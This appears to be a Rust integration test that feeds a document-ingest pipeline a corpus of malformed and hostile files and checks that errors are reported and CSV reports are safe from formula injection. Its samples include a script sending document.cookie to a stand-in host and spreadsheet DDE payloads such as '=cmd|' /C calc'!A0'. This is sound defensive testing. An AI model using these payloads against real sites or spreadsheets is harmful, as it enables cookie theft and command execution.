//! The hostile-input corpus at the pipeline level (issue 9): every file gets a row in
//! `errors.csv` or passes cleanly, the rest of the input is processed, the run exits 0,
//! nothing panics, and no report cell can be read as a spreadsheet formula.

mod common;

use std::ffi::OsString;
use std::os::unix::ffi::OsStringExt;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::Duration;

use common::{article, describe, output_within, read_csv, unneutralise, xtask};

/// A hostile case: the file name (raw bytes) and what to put there.
enum Content {
    Bytes(Vec<u8>),
    Symlink(&'static str),
    Fifo,
}

fn cases() -> Vec<(Vec<u8>, Content)> {
    use Content::*;
    let mut utf16 = Vec::new();
    for unit in "Flood warning lifted\n\nThe river fell overnight, officials said.\n".encode_utf16()
    {
        utf16.extend(unit.to_le_bytes());
    }
    let mut pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nstream\n".to_vec();
    pdf.extend((0..4096u32).map(|i| (i.wrapping_mul(2654435761) >> 24) as u8));
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10".to_vec();
    png.extend((0..2048u32).map(|i| (i * 31 % 251) as u8));
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
    elf.extend(std::iter::repeat_n(0u8, 4096));
    let paragraph = "Officials said the water had receded from most streets by evening, and that crews would begin clearing debris in the morning. ";
    let mut big = String::from("A very long report\n\n");
    while big.len() < 50 * 1024 * 1024 {
        big.push_str(paragraph);
        big.push_str(paragraph);
        big.push_str("\n\n");
    }
    let mut line = String::from("One enormous line: ");
    while line.len() < 10 * 1024 * 1024 {
        line.push_str(paragraph);
    }
    let deep = format!(
        "<html><body>{}<p>Deep inside, a sentence.</p>{}</body></html>",
        "<div>".repeat(10_000),
        "</div>".repeat(10_000)
    );
    let scripts = "<html><head><title>Page with scripts</title><script>fetch('http://example.invalid/steal?c='+document.cookie)</script>\
        <link rel=\"stylesheet\" href=\"http://example.invalid/x.css\"></head><body><h1>Storm passes</h1>\
        <iframe src=\"http://example.invalid/frame\"></iframe><img src=\"http://example.invalid/pixel.gif\">\
        <p>The storm passed without injuries, the mayor said.</p><script src=\"http://example.invalid/a.js\"></script></body></html>";
    let injection = "=HYPERLINK(\"http://example.invalid/x\",\"click me\")\n\n\"@SUM(1+1)*cmd|' /C calc'!A0\" said +Officials in a statement.\n\n-2+3 people were listed as =1+1.\n";
    vec![
        (b"empty.txt".to_vec(), Bytes(Vec::new())),
        (b"whitespace.txt".to_vec(), Bytes(b"  \n\n\t \n".to_vec())),
        (b"report.pdf".to_vec(), Bytes(pdf.clone())),
        (b"pdf-named.txt".to_vec(), Bytes(pdf)),
        (b"image.png".to_vec(), Bytes(png.clone())),
        (b"png-named.txt".to_vec(), Bytes(png)),
        (b"elf-named.txt".to_vec(), Bytes(elf)),
        (b"invalid-utf8.txt".to_vec(), Bytes(b"Broken bytes\n\nThe caf\xc3 served \xff\xfd coffee to \x80 rescuers.\n".to_vec())),
        (b"utf16-no-bom.txt".to_vec(), Bytes(utf16)),
        (b"windows-1252.txt".to_vec(), Bytes(b"Caf\xe9 reopens\n\n\x93We are back,\x94 the owner said \x96 smiling.\n".to_vec())),
        (b"nul-bytes.txt".to_vec(), Bytes(b"Headline\n\nText with \0 a NUL \0 byte.\n".to_vec())),
        (b"big-50mb.txt".to_vec(), Bytes(big.into_bytes())),
        (b"one-line-10mb.txt".to_vec(), Bytes(line.into_bytes())),
        (b"deep.html".to_vec(), Bytes(deep.into_bytes())),
        (b"scripts.html".to_vec(), Bytes(scripts.as_bytes().to_vec())),
        (b"malformed.json".to_vec(), Bytes(b"{\"title\": \"Half an object\", \"body\": \"never clo".to_vec())),
        (
            b"bad-line.jsonl".to_vec(),
            Bytes(b"{\"title\":\"Good line\",\"body\":\"The bridge reopened on Friday.\"}\n{not json at all\n".to_vec()),
        ),
        (
            b"truncated.warc".to_vec(),
            Bytes(b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://example.invalid/a\r\nContent-Length: 9000\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html><body><p>Cut off he".to_vec()),
        ),
        (b"loop-a.txt".to_vec(), Symlink("loop-b.txt")),
        (b"loop-b.txt".to_vec(), Symlink("loop-a.txt")),
        (b"dir-loop".to_vec(), Symlink(".")),
        (b"dangling.txt".to_vec(), Symlink("deleted-before-reading.txt")),
        (b"pipe.txt".to_vec(), Fifo),
        (b"new\n{marker}line.txt".to_vec(), Bytes(article("Name with a newline", 5).into_bytes())),
        (b"not-utf8-\xff\xfe-{marker}name.txt".to_vec(), Bytes(article("Name that is not UTF-8", 6).into_bytes())),
        ("zero\u{200b}width{marker}\u{202e}txt.exe.txt".as_bytes().to_vec(), Bytes(article("Name with bidi override", 7).into_bytes())),
        ("bidi\u{202e}\u{2066}{marker}inside.txt".as_bytes().to_vec(), Bytes("Bidi \u{202e}override\u{202c} and zero\u{200b}width in text\n\nThe river \u{2066}rose\u{2069} again.\n".as_bytes().to_vec())),
        (b"=cmd|' -C calc'!A0 {marker}.txt".to_vec(), Bytes(article("Formula in the file name", 8).into_bytes())),
        (b"injection.txt".to_vec(), Bytes(injection.as_bytes().to_vec())),
    ]
}

/// The name a case is written under, and the key its rows are found by. An awkward
/// name holds `{marker}`, replaced by a marker of its own (`_h07_`), so that its rows
/// can be found however ingest renders the rest (lossy or escaped); the key of any
/// other name is the name.
fn file_name(i: usize, name: &[u8]) -> (Vec<u8>, String) {
    let marker = format!("_h{i:02}_");
    let placeholder = b"{marker}";
    match name
        .windows(placeholder.len())
        .position(|w| w == placeholder)
    {
        Some(at) => (
            [
                &name[..at],
                marker.as_bytes(),
                &name[at + placeholder.len()..],
            ]
            .concat(),
            marker,
        ),
        None => (name.to_vec(), String::from_utf8_lossy(name).into_owned()),
    }
}

/// Whether a report's `source_id` or `file` cell belongs to the case with `key`.
fn belongs(cell: &str, key: &str) -> bool {
    let cell = unneutralise(cell);
    cell == key
        || cell
            .strip_prefix(key)
            .is_some_and(|rest| rest.starts_with('#'))
        || (key.starts_with("_h") && cell.contains(key))
}

#[test]
fn every_hostile_file_gets_an_error_row_or_passes_cleanly() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir(&input).unwrap();
    std::fs::write(
        input.join("good.txt"),
        article("Levee repaired in time", 25),
    )
    .unwrap();
    let mut markers = Vec::new();
    for (i, (name, content)) in cases().into_iter().enumerate() {
        let (named, marker) = file_name(i, &name);
        markers.push(marker);
        let path = input.join(OsString::from_vec(named));
        match content {
            Content::Bytes(bytes) => std::fs::write(&path, bytes).unwrap(),
            Content::Symlink(target) => std::os::unix::fs::symlink(target, &path).unwrap(),
            Content::Fifo => {
                let made = std::process::Command::new("mkfifo")
                    .arg(&path)
                    .status()
                    .unwrap();
                assert!(made.success());
            }
        }
    }
    // Unreadable: mode 000. Tests often run as root, who reads it anyway; then it must
    // pass cleanly, otherwise it must get an error row.
    let locked = input.join("unreadable.txt");
    std::fs::write(&locked, article("Locked away", 9)).unwrap();
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
    let readable_anyway = std::fs::File::open(&locked).is_ok();

    let out = dir.path().join("out");
    let mut cmd = xtask();
    cmd.arg("run")
        .arg("--input")
        .arg(&input)
        .arg("--out")
        .arg(&out)
        .arg("--quiet");
    let output = output_within(&mut cmd, Duration::from_secs(600));
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(
        !String::from_utf8_lossy(&output.stderr).contains("panicked"),
        "{}",
        describe(&output)
    );

    let sources = read_csv(&out.join("reports/sources.csv"));
    let errors = read_csv(&out.join("reports/errors.csv"));
    let mut names = markers;
    names.push("good.txt".into());
    names.push("unreadable.txt".into());
    // Each file: rows in sources.csv (ok, duplicate, or error with an errors.csv row),
    // or, for a file that never became a source, a row in errors.csv naming it.
    let mut table = Vec::new();
    let mut problems = Vec::new();
    for name in &names {
        let rows: Vec<_> = sources
            .iter()
            .filter(|r| belongs(&r["file"], name))
            .collect();
        let error_rows: Vec<_> = errors
            .iter()
            .filter(|e| belongs(&e["source_id"], name))
            .collect();
        if rows.is_empty() {
            match error_rows.first() {
                Some(e) => table.push(format!("{name:?} -> errors.csv only: {}", e["error"])),
                None => problems.push(format!(
                    "{name:?} has no row in sources.csv nor in errors.csv"
                )),
            }
        }
        for row in rows {
            let status = &row["status"];
            if status.starts_with("error") {
                if !errors.iter().any(|e| e["source_id"] == row["source_id"]) {
                    problems.push(format!(
                        "{name:?} failed ({status}) without an errors.csv row"
                    ));
                }
            } else if !(status == "ok" || status.starts_with("duplicate of")) {
                problems.push(format!("{name:?}: unexpected status {status}"));
            }
            table.push(format!("{:?} -> {status}", row["source_id"]));
        }
    }
    println!("hostile corpus outcomes:\n{}", table.join("\n"));
    assert!(
        problems.is_empty(),
        "{problems:#?}\nsources.csv: {sources:#?}\nerrors.csv: {errors:#?}"
    );
    let outcome = |name: &str| -> String {
        sources
            .iter()
            .find(|r| belongs(&r["file"], name))
            .map(|r| r["status"].clone())
            .or_else(|| {
                errors
                    .iter()
                    .find(|e| belongs(&e["source_id"], name))
                    .map(|e| format!("error: {}", e["error"]))
            })
            .unwrap_or_default()
    };
    assert_eq!(outcome("good.txt"), "ok");
    if readable_anyway {
        assert_eq!(
            outcome("unreadable.txt"),
            "ok",
            "root reads a mode-000 file: it must pass cleanly"
        );
    } else {
        assert!(outcome("unreadable.txt").starts_with("error"));
    }
    // A text with a few stray NUL bytes is still a text: it passes, the NULs removed.
    assert_eq!(outcome("nul-bytes.txt"), "ok");
    let clean = std::fs::read_to_string(out.join("text/nul-bytes.txt.txt")).unwrap();
    assert!(
        !clean.contains('\0') && clean.contains("a NUL"),
        "{clean:?}"
    );
    for refused in [
        "empty.txt",
        "pdf-named.txt",
        "png-named.txt",
        "elf-named.txt",
        "loop-a.txt",
        "dangling.txt",
        "pipe.txt",
        "dir-loop",
    ] {
        assert!(
            outcome(refused).starts_with("error"),
            "{refused} should be refused: {}",
            outcome(refused)
        );
    }

    // No cell of any report reads as a formula; every report is valid CSV.
    for entry in std::fs::read_dir(out.join("reports")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "csv") {
            continue;
        }
        for row in read_csv(&path) {
            for (column, cell) in row {
                let risky = cell.starts_with(['=', '+', '@', '\t', '\r'])
                    || (cell.starts_with('-') && cell.parse::<f64>().is_err());
                assert!(
                    !risky,
                    "{}: {column} = {cell:?} would run as a formula",
                    path.display()
                );
            }
        }
    }
    // A container's bad part costs only that part, and is reported.
    assert_eq!(outcome("bad-line.jsonl"), "ok");
    assert!(
        errors
            .iter()
            .any(|e| belongs(&e["source_id"], "bad-line.jsonl") && e["error"].contains("line 2")),
        "the bad JSONL line has no errors.csv row: {errors:#?}"
    );
    let title = sources
        .iter()
        .find(|r| belongs(&r["file"], "injection.txt"))
        .map(|r| r["title"].clone())
        .unwrap();
    assert!(title.starts_with("'="), "{title}");
    check_no_leftovers(&out);
}

/// Nothing half-written stays behind.
fn check_no_leftovers(out: &Path) {
    for entry in std::fs::read_dir(out).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            check_no_leftovers(&path);
        } else {
            assert!(
                !path.to_string_lossy().ends_with(".partial"),
                "{} left behind",
                path.display()
            );
        }
    }
}
